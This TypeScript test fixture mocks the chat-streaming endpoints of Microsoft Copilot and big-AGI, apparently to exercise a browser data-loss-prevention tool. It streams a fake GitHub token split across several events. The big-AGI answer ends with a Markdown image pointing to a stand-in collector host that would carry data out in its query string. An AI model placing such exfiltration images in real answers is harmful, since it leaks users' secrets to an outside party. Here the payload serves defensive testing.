/**
 * Mock answer endpoints of Microsoft Copilot and big-AGI (issue 20), each
 * streaming the scripted token split across its events, in small pieces:
 *
 * - WebSocket upgrade on `/c/api/chat?api-version=2`: Copilot's chat socket
 *   (WIRE-FORMATS-2.md §4.2). Once the page's `send` frame arrives: `received`,
 *   `startMessage`, `appendText` frames (the token split across three),
 *   `partCompleted`, `titleUpdate`, `done`, one JSON text frame each; then a
 *   normal close.
 * - `POST /api/edge/aix.chatGenerateContent?batch=1`: big-AGI's tRPC JSON lines
 *   (§4.7, the captured framing): the batch head, `set-model`, `{t}` particles
 *   (the token split across three, then a Markdown exfil image), `end`, the
 *   iterable's return line.
 *
 * - `GET /c/api/received`: the text frames the Copilot sockets received from the
 *   page, in order (issue 20 §2: what left the browser after outgoing DLP).
 *
 * Node 20 has no WebSocket server: the handshake (RFC 6455 §4.2.2) and the
 * server's unmasked text and close frames (§5.2) are written here, and the
 * client's masked frames (§5.2, §5.3) are read back for `received`. Loopback
 * only, like the rest of the mock chat.
 */
import { createHash } from 'node:crypto';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { Duplex } from 'node:stream';
import { fakeGithubToken } from './scripted-answers.ts';

const WS_GUID = '258EAFA5-E914-47DA-95CA-C5AB0DC85B11';
/** Where the exfil image of the big-AGI answer points (never fetched when guarded). */
export const BIG_AGI_EXFIL = 'https://collector.example.net/p?d=';

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** The answer's pieces: the token split across three of them. */
function answerPieces(): string[] {
  const token = fakeGithubToken();
  return [
    'Here it is: ',
    token.slice(0, 9),
    token.slice(9, 24),
    token.slice(24),
    ' (rotate it soon).',
  ];
}

/** Copilot's server frames for one answer (§4.2). */
export function copilotFrames(): string[] {
  const messageId = 'm-bot-e2e';
  const frames: unknown[] = [
    { event: 'received', conversationId: 'cv-e2e', messageId: 'm-user-e2e' },
    { event: 'startMessage', conversationId: 'cv-e2e', messageId },
    ...answerPieces().map((text) => ({ event: 'appendText', messageId, partId: '0', text })),
    { event: 'partCompleted', messageId, partId: '0' },
    { event: 'titleUpdate', conversationId: 'cv-e2e', title: `Token ${fakeGithubToken()}` },
    { event: 'done', messageId },
  ];
  return frames.map((f) => JSON.stringify(f));
}

/** big-AGI's answer body (§4.7): tRPC JSON lines, the text as `{t}` particles. */
export function bigAgiBody(): string {
  const line = (json: unknown) => `${JSON.stringify({ json })}\n`;
  const particle = (p: unknown) => line([3, 1, [[p]]]);
  const pieces = [...answerPieces(), ` ![chart](${BIG_AGI_EXFIL}`, 'abc) done.'];
  return [
    line({ '0': [[0], [null, 0, 0]] }),
    line([0, 0, [[{ result: 0 }], ['result', 0, 1]]]),
    line([1, 0, [[{ data: 0 }], ['data', 0, 2]]]),
    line([2, 0, [[0], [null, 1, 3]]]),
    particle({ cg: 'set-model', name: 'mock-gpt-1' }),
    ...pieces.map((t) => particle({ t })),
    particle({ cg: 'end', terminationReason: 'done-dialect', tokenStopReason: 'ok' }),
    line([3, 0, [[]]]),
  ].join('');
}

/**
 * Reads the client's frames as they arrive (RFC 6455 §5.2: FIN/opcode byte, MASK bit
 * and 7/16/64-bit length, 4-byte masking key, masked payload); hands each text
 * frame's payload to `onText`. Fragmented messages are not used by the test page.
 */
function clientFrameReader(onText: (text: string) => void): (chunk: Buffer) => void {
  let buffer = Buffer.alloc(0);
  return (chunk) => {
    buffer = Buffer.concat([buffer, chunk]);
    for (;;) {
      if (buffer.length < 2) return;
      const opcode = buffer[0]! & 0x0f;
      let length = buffer[1]! & 0x7f;
      let at = 2;
      if (length === 126) {
        if (buffer.length < 4) return;
        length = buffer.readUInt16BE(2);
        at = 4;
      } else if (length === 127) {
        if (buffer.length < 10) return;
        length = Number(buffer.readBigUInt64BE(2));
        at = 10;
      }
      if (buffer.length < at + 4 + length) return;
      const mask = buffer.subarray(at, at + 4);
      const payload = Buffer.from(buffer.subarray(at + 4, at + 4 + length));
      for (let i = 0; i < payload.length; i++) payload[i]! ^= mask[i % 4]!;
      buffer = buffer.subarray(at + 4 + length);
      if (opcode === 0x1) onText(payload.toString('utf8'));
      if (opcode === 0x2) onText(`binary:${payload.toString('utf8')}`);
    }
  };
}

function frame(opcode: number, payload: Buffer): Buffer {
  if (payload.length >= 126) throw new Error('mock frames are short');
  return Buffer.concat([Buffer.from([0x80 | opcode, payload.length]), payload]);
}

async function streamCopilot(socket: Duplex, delayMs: number): Promise<void> {
  for (const text of copilotFrames()) {
    if (socket.destroyed) return;
    socket.write(frame(0x1, Buffer.from(text, 'utf8')));
    await sleep(delayMs);
  }
  if (socket.destroyed) return;
  socket.write(frame(0x8, Buffer.from([0x03, 0xe8])));
  socket.end();
}

export interface CopilotBigAgiRoutes {
  handle(req: IncomingMessage, res: ServerResponse, url: URL): boolean;
  /** Takes a WebSocket upgrade on Copilot's chat path; false for any other path. */
  upgrade(req: IncomingMessage, socket: Duplex): boolean;
  close(): void;
}

export function createCopilotBigAgiRoutes(options: { chunkDelayMs: number }): CopilotBigAgiRoutes {
  const sockets = new Set<Duplex>();
  const delay = options.chunkDelayMs;
  /** The text frames Copilot's sockets received, in order. */
  const received: string[] = [];
  return {
    handle(req, res, url) {
      if (req.method === 'GET' && url.pathname === '/c/api/received') {
        res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' });
        res.end(JSON.stringify(received));
        return true;
      }
      if (req.method !== 'POST' || url.pathname !== '/api/edge/aix.chatGenerateContent') {
        return false;
      }
      req.resume();
      req.on('end', () => {
        void (async () => {
          res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' });
          for (const line of bigAgiBody().split(/(?<=\n)/)) {
            if (res.destroyed) return;
            res.write(line);
            await sleep(delay);
          }
          res.end();
        })().catch(() => res.destroy());
      });
      return true;
    },
    upgrade(req, socket) {
      const url = new URL(req.url ?? '/', 'http://mock.invalid');
      const key = req.headers['sec-websocket-key'];
      if (url.pathname !== '/c/api/chat' || typeof key !== 'string') return false;
      socket.on('error', () => socket.destroy());
      sockets.add(socket);
      socket.on('close', () => sockets.delete(socket));
      // The page's first frame is its `send`: answer once it arrives.
      socket.once('data', () => {
        streamCopilot(socket, delay).catch(() => socket.destroy());
      });
      socket.on(
        'data',
        clientFrameReader((text) => received.push(text)),
      );
      const accept = createHash('sha1')
        .update(key + WS_GUID)
        .digest('base64');
      socket.write(
        'HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\n' +
          `sec-websocket-accept: ${accept}\r\n\r\n`,
      );
      return true;
    },
    close() {
      for (const socket of sockets) socket.destroy();
      sockets.clear();
    },
  };
}
